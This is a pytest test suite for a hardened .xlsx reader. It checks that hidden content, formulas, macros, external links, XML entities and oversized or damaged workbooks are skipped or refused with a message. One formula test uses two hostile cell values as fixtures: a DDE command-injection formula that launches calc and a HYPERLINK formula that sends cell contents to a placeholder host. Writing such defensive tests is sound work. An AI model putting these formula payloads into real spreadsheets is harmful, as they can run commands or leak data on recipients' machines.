"""Workbooks: visible values only, and nothing hostile gets as far as the reader."""

import contextlib
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mapping.errors import FormatError
from mapping.formats.tables.xlsx import read
from mapping.registry import format_of

SHEET = "xl/worksheets/sheet1.xml"


def workbook(rows=(("a", "b"), (1, 2)), change=None):
    """Return the bytes of a workbook; ``change(book)`` does more to it."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    if change is not None:
        change(book)
    contents = io.BytesIO()
    book.save(contents)
    return contents.getvalue()


def patched(part, change):
    """Return a workbook one part of which was changed."""
    contents = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as whole, zipfile.ZipFile(contents, "w", zipfile.ZIP_DEFLATED) as out:
        for member in whole.infolist():
            text = whole.read(member)
            out.writestr(member.filename, change(text) if member.filename == part else text)
    return contents.getvalue()


@pytest.fixture
def sheets(tmp_path):
    """Return the sheets of a workbook of some bytes."""

    def read_bytes(contents):
        path = tmp_path / "list.xlsx"
        path.write_bytes(contents)
        return list(read(path))

    return read_bytes


def test_values_of_every_kind(sheets):
    (sheet,) = sheets(
        workbook([("text", 3, 2.5, True, dt.date(2026, 11, 24), None), (None, " x ", "=1+1", 0, -1, 1e20)])
    )
    assert list(sheet.rows[0][:4]) == ["text", 3.0, 2.5, True]
    assert str(sheet.rows[0][4]).startswith("2026-11-24")
    assert sheet.rows[1][1] == " x "
    assert sheet.rows[1][2] in ("", None)  # a formula without a value stored for it


def test_what_is_hidden_is_left_out_and_never_told(sheets):
    def hide(book):
        sheet = book.active
        sheet.column_dimensions["B"].hidden = True
        sheet.row_dimensions[3].hidden = True
        for kind in ("hidden", "veryHidden"):
            other = book.create_sheet(f"secret {kind}")
            other.append(["secret"])
            other.sheet_state = kind

    found = sheets(workbook([("a", "secret", "c"), (1, "secret", 3), ("secret", "secret", "secret"), (4, 5, 6)], hide))
    assert [list(row) for row in found[0].rows] == [["a", None, "c"], [1, None, 3], [None] * 3, [4, None, 6]]
    assert found[0].skipped == ("1 hidden row, not read", "1 hidden column, not read")
    assert [sheet.rows for sheet in found[1:]] == [(), ()]
    assert "secret" not in str(found)


def test_rows_keep_their_numbers(sheets):
    (sheet,) = sheets(workbook([(), (), ("a",), (), ("b",)]))
    assert [n for n, row in enumerate(sheet.rows, sheet.first_row) if any(row)] == [3, 5]


def far(xml):
    return xml.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


def padded(xml):
    return xml.replace(b"</sheetData>", b" " * (30 * 2**20) + b"</sheetData>")


def with_entity(xml):
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>' + xml.split(b"?>", 1)[-1]


@pytest.mark.parametrize(
    ("contents", "said"),
    [
        (b"", "the file is empty"),
        (b"hello", "is a table in text and no workbook"),
        (b"hello\0", "is no zip file"),
        (b"\xd0\xcf\x11\xe0" + b"x" * 600, "is encrypted or an old .xls"),
        (workbook()[:2000], "is no zip file"),
        (patched(SHEET, padded), "which no honest list does"),
        (patched(SHEET, far), "1,048,576 rows and 16,384 columns are too many"),
        (patched(SHEET, lambda xml: xml[:80]), "the file is damaged"),
        (patched(SHEET, lambda xml: xml.replace(b'r="A1"', b'r="1A"')), "the file is damaged"),
        (patched("xl/workbook.xml", with_entity), "holds entities or a document type"),
        (patched("xl/workbook.xml", lambda _xml: b"<x/>"), "is not a workbook"),
        (patched("xl/workbook.xml", lambda _xml: b"no xml"), "the file is damaged"),
    ],
)
def test_what_is_no_list_is_refused_with_advice(sheets, contents, said):
    with pytest.raises(FormatError) as refusal:
        sheets(contents)
    assert said in str(refusal.value)
    assert "list.xlsx" in str(refusal.value)
    assert "\n" not in str(refusal.value)


def test_a_zip_with_thousands_of_parts(sheets):
    contents = io.BytesIO()
    with zipfile.ZipFile(contents, "w") as out:
        for number in range(2001):
            out.writestr(f"{number}", "")
    with pytest.raises(FormatError, match="2,001 files"):
        sheets(contents.getvalue())


def test_a_size_that_lies_costs_nothing(sheets):
    """A sheet may say that it has ten million rows; what counts is where its cells are."""
    (sheet,) = sheets(patched(SHEET, lambda xml: xml.replace(b"A1:B2", b"A1:XFD1048576")))
    assert len(sheet.rows) == 2


def test_rows_without_cells_cost_nothing(sheets):
    empty = b"".join(b'<row r="%d"/>' % number for number in range(3, 20_000))
    (sheet,) = sheets(patched(SHEET, lambda xml: xml.replace(b"</sheetData>", empty + b"</sheetData>")))
    assert len(sheet.rows) == 2


def test_a_missing_file(tmp_path):
    with pytest.raises(FormatError, match="cannot be read"):
        list(read(tmp_path / "none.xlsx"))


@given(st.binary(max_size=300))
def test_arbitrary_bytes_are_refused(tmp_path_factory, contents):
    path = tmp_path_factory.mktemp("bytes") / "list.xlsx"
    path.write_bytes(contents)
    with pytest.raises(FormatError):
        list(read(path))


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(0, 400), st.binary(min_size=1, max_size=20))
def test_a_sheet_damaged_anywhere_is_read_or_refused(tmp_path_factory, place, rubbish):
    contents = patched(SHEET, lambda xml: xml[:place] + rubbish + xml[place + len(rubbish) :])
    path = tmp_path_factory.mktemp("damaged") / "list.xlsx"
    path.write_bytes(contents)
    with contextlib.suppress(FormatError):
        assert all(isinstance(sheet.name, str) for sheet in read(path))


def test_columns_without_a_name_count_too(sheets):
    cells = b'<row r="3">' + b"<c><v>1</v></c>" * 16_385 + b"</row></sheetData>"
    with pytest.raises(FormatError, match="16,385 columns are too many"):
        sheets(patched(SHEET, lambda xml: xml.replace(b"</sheetData>", cells)))


def test_formulas_are_values_and_those_without_one_are_said(sheets):
    def write(book):
        book.active["C1"] = "=1+1"
        book.active["C2"] = "=cmd|'/c calc'!A1"
        book.active["D1"] = '=HYPERLINK("https://x.example/"&A1,"x")'

    (sheet,) = sheets(workbook(change=write))
    assert [cell for cell in sheet.rows[0][2:] if cell] == []
    assert sheet.skipped == ("3 formulas without a value, read as empty: save it in a spreadsheet program",)
    value = patched(
        SHEET,
        lambda xml: xml.replace(b"</sheetData>", b'<row r="3"><c r="A3"><f>1+1</f><v>2</v></c></row></sheetData>'),
    )
    (sheet,) = sheets(value)
    assert (sheet.rows[2][0], sheet.skipped) == (2, ())


def test_macros_and_links_to_other_files_are_left_alone_and_said(sheets):
    contents = io.BytesIO(workbook())
    with zipfile.ZipFile(contents, "a") as parts:
        parts.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
        parts.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
    (sheet,) = sheets(contents.getvalue())
    assert sheet.skipped == ("macros, not read", "links to other files, not followed")


@pytest.mark.parametrize("ending", [".xlsb", ".numbers", ""])
def test_other_workbooks_are_told_what_to_save_as(tmp_path, ending):
    path = tmp_path / f"list{ending}"
    path.write_bytes(b"anything")
    with pytest.raises(FormatError, match=r"save it as one of .*\.xlsx"):
        format_of(path)


def test_what_is_merged_downwards_holds_for_each_row(tmp_path):
    path = tmp_path / "merged.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        sheet.merge_range("A1:C1", "A list")
        sheet.write_row(1, 0, ("Name", "District", "Help"))
        sheet.merge_range("A3:A5", "Umed")
        sheet.merge_range("B3:B4", "Juybor")
        for row, word in enumerate(("advice", "psychologist", "hotline"), 2):
            sheet.write(row, 2, word)
    (sheet,) = read(path)
    assert [list(row) for row in sheet.rows][2:] == [
        ["Umed", "Juybor", "advice"],
        ["Umed", "Juybor", "psychologist"],
        ["Umed", None, "hotline"],
    ]
    assert list(sheet.rows[0]) == ["A list", None, None]


def test_what_is_struck_through_is_not_read_and_said(sheets):
    def strike(book):
        for cell in (*book.active[3], book.active["B4"]):
            cell.font = openpyxl.styles.Font(strike=True)
        book.active["A2"].font = openpyxl.styles.Font(bold=True)

    (sheet,) = sheets(workbook((("name", "phone"), ("Umed", "1"), ("Nur", "2"), ("Soya", "3")), strike))
    assert [list(row) for row in sheet.rows] == [["name", "phone"], ["Umed", "1"], [None, None], ["Soya", None]]
    assert sheet.skipped == ("struck through, not read: row 3", "struck through, not read: cells of row 4")


def test_cells_that_hold_an_error_are_told(sheets):
    (sheet,) = sheets(workbook((("a", "b"), ("#REF!", "#N/A"), (1, 2))))
    assert [str(note) for note in sheet.skipped] == ["2 cells that hold an error such as #REF!, read as empty"]


def test_comments_go_with_their_rows_and_are_said(sheets):
    def note(book):
        book.active["B2"].comment = openpyxl.comments.Comment("не публиковать", "A")
        book.active["A2"].comment = openpyxl.comments.Comment("call first", "A")

    (sheet,) = sheets(workbook((("name", "phone"), ("Umed", "1"), ("Nur", "2")), note))
    assert {row: sorted(text.split("; ")) for row, text in sheet.comments.items()} == {
        2: ["call first", "не публиковать"]
    }
    assert sheet.skipped == ("comments beside cells, looked at as remarks: rows 2",)
